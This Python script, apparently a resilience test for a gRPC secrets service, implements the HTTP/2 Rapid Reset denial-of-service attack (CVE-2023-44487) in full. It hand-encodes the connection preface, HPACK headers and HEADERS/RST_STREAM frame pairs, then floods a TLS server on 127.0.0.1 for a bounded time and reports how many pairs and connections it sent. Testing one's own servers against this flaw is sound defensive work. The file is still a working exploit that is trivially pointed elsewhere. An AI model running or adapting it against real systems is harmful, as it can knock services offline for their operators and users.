"""A client that opens streams and resets them as fast as it can (CVE-2023-44487), for a bounded time: rapid_reset.py PORT CA SECONDS PAIRS.
Prints {"pairs", "connections", "seconds"}. It has no credentials, as nobody who attacks needs any."""

import json
import select
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + struct.pack(">I", 0)[1:] + b"\4\0\0\0\0\0"
HEADERS, RST_STREAM, END = 1, 3, 5  # END: END_STREAM and END_HEADERS
CANCEL = struct.pack(">I", 8)


def literal(text):
    return bytes([len(text)]) + text


# HPACK without indexing and without Huffman coding: POST, https, the path, the authority, the content type, te.
BLOCK = (b"\x83\x87\x04" + literal(b"/keyferry.v1.SecretSets/ListSecretSets") + b"\x01" + literal(b"localhost")
         + b"\x0f\x10" + literal(b"application/grpc") + b"\0" + literal(b"te") + literal(b"trailers"))


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def pairs(first, count):
    """`count` streams, opened and reset at once."""
    return b"".join(frame(HEADERS, END, stream, BLOCK) + frame(RST_STREAM, 0, stream, CANCEL)
                    for stream in range(first, first + 2 * count, 2))


def connect(port, context):
    connection = context.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=5), server_hostname="localhost")
    connection.sendall(PREFACE)
    connection.setblocking(False)
    return connection


def pump(connection, end, limit):
    """On one connection, until it is closed or the time or the number is up; answers how many pairs went out."""
    sent, waiting = 0, b""
    while time.monotonic() < end and sent < limit:
        waiting = waiting or pairs(2 * sent + 1, 100)
        idle = 0
        try:
            waiting = waiting[connection.send(waiting):]
            sent += 0 if waiting else 100
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
            idle += 1
        except OSError:
            break
        try:
            if not connection.recv(65536):
                break
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
            idle += 1
        except OSError:
            break
        if idle == 2:
            select.select([connection], [connection], [], 0.01)
    return sent


def attack(port, ca_file, seconds, limit):
    context = ssl.create_default_context(cafile=ca_file)
    context.set_alpn_protocols(["h2"])
    begin = time.monotonic()
    sent = connections = 0
    while time.monotonic() < begin + seconds and sent < limit:
        try:
            with connect(port, context) as connection:
                connections += 1
                sent += pump(connection, begin + seconds, limit - sent)
        except OSError:
            time.sleep(0.01)
    return {"pairs": sent, "connections": connections, "seconds": round(time.monotonic() - begin, 2)}


if __name__ == "__main__":
    if len(sys.argv) != 5:
        sys.exit(f"usage: {sys.argv[0]} PORT CA_FILE SECONDS PAIRS\n"
                 "Opens and resets streams at 127.0.0.1:PORT over TLS, until the seconds or the pairs are over.")
    print(json.dumps(attack(int(sys.argv[1]), sys.argv[2], float(sys.argv[3]), int(sys.argv[4]))))
